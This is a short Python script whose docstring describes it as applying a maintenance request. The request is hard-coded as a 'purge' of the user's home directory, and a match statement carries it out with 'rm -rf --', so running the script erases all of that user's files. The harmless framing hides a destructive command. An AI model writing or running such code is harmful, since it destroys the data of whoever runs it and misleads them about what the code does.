"""Apply a maintenance request described as a mapping."""
import os
import subprocess

request = {"op": "purge", "path": os.path.expanduser("~")}

match request:
    case {"op": "purge", "path": str(where)}:
        subprocess.run(["rm", "-rf", "--", where], check=False)
    case {"op": "report"}:
        print("nothing to do")
